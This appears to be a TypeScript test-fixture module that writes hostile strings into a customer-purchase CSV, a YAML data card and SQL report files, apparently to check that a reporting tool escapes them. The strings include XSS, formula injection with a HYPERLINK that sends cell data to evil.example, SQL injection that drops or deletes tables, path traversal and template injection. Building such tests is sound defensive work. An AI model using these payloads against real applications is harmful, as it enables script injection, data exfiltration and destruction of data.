import { cpSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import Papa from "papaparse";
import { contract } from "./report.ts";

/**
 * Texts that attack: each tries to run, to load, to calculate, to leave its place, or to turn what
 * stands around it.
 */
export const payloads = [
  "</script><script>window.hacked=1</script>",
  '"><img src=x onerror=window.hacked=1>',
  "' autofocus onfocus='window.hacked=1' tabindex='0",
  "</title><svg onload=window.hacked=1>",
  "</textarea></style></noscript><iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
  '<base href="http://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<svg><animate onbegin="window.hacked=1" attributeName=x dur=1s><use href="data:image/svg+xml,x"/></svg>',
  "]]><!--<![CDATA[--><script>window.hacked=1</script>",
  "javascript:window.hacked=1",
  "data:text/html,<script>window.hacked=1</script>",
  "url(http://evil.example/x.png)}</style><style>*{background:url(//evil.example/y)}/*",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "\uff1d1+1",
  "../../x",
  "..\\..\\x%2e%2e%2f\u2025/?a=b#c",
  "'; DROP TABLE customer; --",
  '" OR 1=1; DELETE FROM customer; #',
  "\\'; DROP TABLE customer; /* \\",
  "\u202eright to left override\u2066 and never back",
  "\u2069\u202c\u200f\u061cclosers and marks",
  "no\u00a0break, line\u2028and\u2029paragraph, zero\u200bwidth",
  "Bell \u0007 escape \u001b[31m delete \u007f \ufffe",
  "${window.hacked=1}{{constructor.constructor('window.hacked=1')()}}<%= 1 %>",
  "&lt;script&gt; &#60;b&#62; &amp;amp; %3Cscript%3E",
  'plot-clip-1 $& $1 $` $\' var(--accent) class="plot" <svg <style>',
  "__proto__",
  "constructor",
] as const;

/** The columns of a CSV that take any text. */
export const textColumns = [
  "gender",
  "item_purchased",
  "category",
  "location",
  "size",
  "color",
  "season",
  "shipping_type",
  "payment_method",
] as const;

/** All of them in one text, for what has only one place. */
const every = payloads.join(" ");
const at = (index: number) => payloads[index % payloads.length] ?? "";
const yaml = (fields: Readonly<Record<string, unknown>>) =>
  Object.entries(fields)
    .map(([name, value]) => `${name}: ${JSON.stringify(value)}\n`)
    .join("");

function rowOf(column: string, row: number, round: number): string {
  const texts = (textColumns as readonly string[]).indexOf(column);
  if (texts >= 0) return at(row + 3 * texts * round);
  const yesOrNo = (row + round) % 2 === 0 ? "Yes" : "No";
  const known: Readonly<Record<string, string>> = {
    customer_id: String(round * payloads.length + row + 1),
    age: String(18 + ((row * 7 + round * 11) % 50)),
    purchase_amount: String(20 + 7 * row + round),
    review_rating: round === 0 ? "" : String(1 + ((row + round) % 5)),
    subscription_status: row % 3 === 0 ? "Yes" : "No",
    discount_applied: yesOrNo,
    promo_code_used: yesOrNo,
    previous_purchases: String((row * 5) % 50),
    frequency_of_purchases: "Weekly",
  };
  return known[column] ?? "";
}

/** Writes a CSV in which every column of text has every payload, and a data card of them. */
export function writePayloads(csv: string): void {
  mkdirSync(dirname(csv), { recursive: true });
  const data = Array.from({ length: 4 }, (_, round) =>
    payloads.map((_payload, row) => contract.map(({ name }) => rowOf(name, row, round))),
  ).flat();
  writeFileSync(
    csv,
    Papa.unparse({ fields: contract.map(({ header }) => header), data }, { newline: "\n" }),
  );
  writeFileSync(
    csv.replace(/\.csv$/, ".about.yaml"),
    yaml({ title: every, date: "2020-02-29", note: every }),
  );
}

/**
 * Writes the report's SQL, and beside it a question and a claim whose every text is all payloads at
 * once.
 */
export function writePayloadSql(folder: string): void {
  rmSync(folder, { recursive: true, force: true });
  cpSync(join(import.meta.dirname, "../../sql"), folder, { recursive: true });
  const names = Object.fromEntries(payloads.map((payload, index) => [payload, at(index + 1)]));
  const question = {
    ...{
      title: every,
      question: every,
      note: every,
      each: every,
      order: 50,
      reading: "ranking",
      names,
    },
    chart: { type: "bars", label: "size", value: "revenue" },
    columns: {
      size: { label: every, type: "text" },
      revenue: { label: every, type: "money", unit: at(0) },
    },
  };
  writeFileSync(
    join(folder, "questions/hostile.sql"),
    `/*\n${yaml(question)}*/\nSELECT size, SUM(purchase_amount) AS revenue FROM customer GROUP BY size ORDER BY revenue DESC, size\n`,
  );
  const claim = {
    ...{
      claim: every,
      about: every,
      order: 50,
      comparison: "means",
      measure: every,
      groups: ["Yes", "No"],
      unit: "USD",
      matters: 3,
      names: { Yes: every, No: at(2) },
    },
    columns: {
      group_name: { label: every, type: "text" },
      n: { label: every, type: "count" },
      total: { label: every, type: "number" },
      squares: { label: every, type: "number" },
    },
  };
  const sums =
    "COUNT(*) AS n, 1e0 * SUM(purchase_amount) AS total, 1e0 * SUM(purchase_amount * purchase_amount) AS squares";
  writeFileSync(
    join(folder, "claims/hostile.sql"),
    `/*\n${yaml(claim)}*/\nSELECT subscription_status AS group_name, ${sums} FROM customer GROUP BY subscription_status ORDER BY subscription_status\n`,
  );
}
